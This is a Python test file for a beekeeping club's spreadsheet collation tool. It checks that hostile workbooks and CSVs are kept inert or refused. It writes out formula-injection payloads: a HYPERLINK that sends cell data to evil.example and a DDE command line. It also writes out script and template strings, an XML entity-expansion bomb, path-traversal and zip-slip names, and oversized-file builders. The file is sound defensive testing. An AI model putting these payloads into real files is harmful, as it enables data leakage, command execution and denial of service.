"""Files that mean harm, or could do it by accident: nothing runs, nothing leaks, each gets its sentence."""

from __future__ import annotations

import io
import re
import zipfile
from datetime import date
from typing import TYPE_CHECKING

import pytest

from apiarybook.gather.collate import collate
from apiarybook.layout import BOOK, Kind
from tests.gather.copies import data, filled, returned, saved
from tests.gather.small_club import AS_AT, Row

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

    from tests.gather.conftest import Evening

DAY = date(2026, 9, 20)
ROW: Row = {"date": DAY, "colony": "A1", "by": "Ann Alder", "how": "full lift", "reading_1": 33.625}
EVIL = (
    '=HYPERLINK("http://evil.example/?"&A1,"look")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "http://evil.example/a",
    "<script>alert('evil.example')</script>",
    "{{ evil.example }}",
    "mailto:evil.example@x",
    "internal:'evil.example'!A1",
)
Parts = dict[str, bytes]


def parts(path: Path) -> Parts:
    with zipfile.ZipFile(path) as book:
        return {name: book.read(name) for name in book.namelist()}


def packed(found: Parts, path: Path) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as book:
        for name, part in found.items():
            book.writestr(name, part)
    return path


def text_rows() -> dict[str, list[Row]]:
    """A row for each hostile text, which stands in every column of text, code or choice at once."""
    rows: dict[str, list[Row]] = {}
    for name in ("Weighings", "Feedings", "Winter rounds", "After winter"):
        words = [one.key for one in BOOK[name].typed if one.kind in (Kind.TEXT, Kind.CODE, Kind.CHOICE, Kind.HEFT)]
        words = [key for key in words if key not in ("ref", "colony", "typed_for")]
        rows[name] = [{"date": DAY, "colony": "A1", **dict.fromkeys(words, evil)} for evil in EVIL]
    rows["Weighings"].append({**ROW, "colony": EVIL[0]})
    return rows


def test_formulas_and_links_stay_text_everywhere(evening: Evening) -> None:
    file = returned(evening.copies["M1"], evening.folder / "in" / "x.xlsx", text_rows())
    done = collate(evening.club, [file], as_at=AS_AT)
    found = parts(evening.club)
    assert not [name for name, part in found.items() if b"evil.example" in part and not name.endswith("Strings.xml")]
    assert not any(b'TargetMode="External"' in part for part in found.values())
    kept = [row for rows in data(evening.club).values() for row in rows]
    assert all(sum(evil in row for row in kept) >= 4 for evil in EVIL)
    page = done.notes["M1"].with_suffix(".html").read_text(encoding="utf-8")
    assert "<script" not in page
    assert not re.search(r"href|src=", page)


def macros(found: Parts) -> None:
    found["xl/vbaProject.bin"] = b"\xd0\xcf\x11\xe0 evil macro"
    kinds = found["[Content_Types].xml"].decode()
    kinds = kinds.replace(
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
        "application/vnd.ms-excel.sheet.macroEnabled.main+xml",
    )
    found["[Content_Types].xml"] = kinds.encode()


def links(found: Parts) -> None:
    """A reading that comes out of another file."""
    name = next(name for name in found if name.startswith("xl/worksheets/sheet") and b"<v>33.625</v>" in found[name])
    found[name] = re.sub(rb"<v>33.625</v>", rb"<f>[1]Secret!A1</f><v>33.625</v>", found[name])
    found["xl/externalLinks/externalLink1.xml"] = b"<externalLink/>"


def entities(found: Parts) -> None:
    bomb = b'<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
    found["xl/workbook.xml"] = found["xl/workbook.xml"].replace(b"?>", b"?>" + bomb, 1)


def many_sheets(found: Parts) -> None:
    book = found["xl/workbook.xml"].decode()
    first = re.search(r'<sheet name="[^"]+" sheetId="1" r:id="(rId\d+)"/>', book)
    assert first is not None
    more = "".join(f'<sheet name="S{at}" sheetId="{at + 100}" r:id="{first[1]}"/>' for at in range(10_000))
    found["xl/workbook.xml"] = book.replace("</sheets>", f"{more}</sheets>").encode()


def gigabytes(found: Parts) -> None:
    found["xl/worksheets/sheet2.xml"] = b" " * 250_000_000


def styled_rows(found: Parts) -> None:
    name = next(name for name in found if name.startswith("xl/worksheets/sheet") and b"<v>33.625</v>" in found[name])
    empty = b"".join(b'<row r="%d" s="1" customFormat="1"/>' % row for row in range(2_000, 1_000_000))
    found[name] = found[name].replace(b"</sheetData>", empty + b"</sheetData>")


@pytest.mark.parametrize(
    ("harm", "said"),
    [
        (macros, ""),
        (links, "holds the formula"),
        (entities, "document type"),
        (many_sheets, "sheets, more than the 256"),
        (gigabytes, "take more than the 200 MB that are read of a sheet"),
        (styled_rows, ""),
    ],
)
def test_hostile_book_is_gathered_or_refused_in_a_sentence(
    evening: Evening, harm: Callable[[Parts], None], said: str
) -> None:
    file = returned(evening.copies["M1"], evening.folder / "x.xlsx", {"Weighings": [ROW]})
    found = parts(file)
    harm(found)
    good = returned(evening.copies["M2"], evening.folder / "good.xlsx", {"Weighings": [{**ROW, "colony": "B1"}]})
    done = collate(evening.club, [packed(found, file), good], as_at=AS_AT)
    assert "M2a_00c0" in [one.copy for one in done.returns]
    refused = [one.why for one in done.left_alone]
    findings = [one.message for one in done.rebuilt.reckoned.checked.findings if one.weight == "hold"]
    if not said:
        assert (refused, findings) == ([], [])
        assert "M1a_00c0-W1" in [row[0] for row in data(evening.club)["Weighings"]]
    else:
        assert any(said in one for one in (*refused, *findings)), (refused, findings)
    kept = parts(evening.club)
    assert not [name for name in kept if "vba" in name or "externalLink" in name]
    assert not any(b"[1]Secret" in part for name, part in kept.items() if "sheet" in name)


def test_odd_refs_and_names_write_nothing_elsewhere(evening: Evening) -> None:
    raw = filled(evening.copies["M1"], {"Weighings": [ROW, ROW, ROW]})
    odd = ("../../../x", "M1a_00c0-W1/../../y", "M1a_00c0-W2_x0007_ \u202e")
    for ref, row in zip(odd, [row for row in raw.sheets["Weighings"].rows if "A1" in row][-3:], strict=True):
        row[next(at for at, one in enumerate(row) if str(one).startswith("M1a_00c0-W"))] = ref
    inbox = evening.folder / "in"
    saved(raw, inbox / "x.xlsx")
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as archive:
        archive.write(inbox / "x.xlsx", "../../../../evil.xlsx")
    (inbox / "x.xlsx").unlink()
    (inbox / "all.zip").write_bytes(target.getvalue())
    before = {path for path in evening.folder.parent.rglob("*") if evening.folder not in path.parents}
    done = collate(evening.club, [inbox], as_at=AS_AT)
    assert [one.name for one in done.returns] == ["all.zip, evil.xlsx"]
    assert {path for path in evening.folder.parent.rglob("*") if evening.folder not in path.parents} == before
    assert sorted(path.name for path in inbox.iterdir()) == ["all.zip"]
    rows = [row for row in data(evening.club)["Weighings"] if row[1] == DAY]
    assert len(rows) == 3


def test_endless_return_is_refused_in_a_sentence(evening: Evening) -> None:
    lines = [
        "ref,date,colony,how,reading 1",
        *(f"M1a_00c0-W{at},2026-09-20,A1,full lift,33" for at in range(1, 100_001)),
    ]
    file = evening.folder / "x.csv"
    file.write_text("\n".join(lines))
    done = collate(evening.club, [file], as_at=AS_AT)
    (left,) = done.left_alone
    assert "100,000 rows are filled, more than the 20,000" in left.why
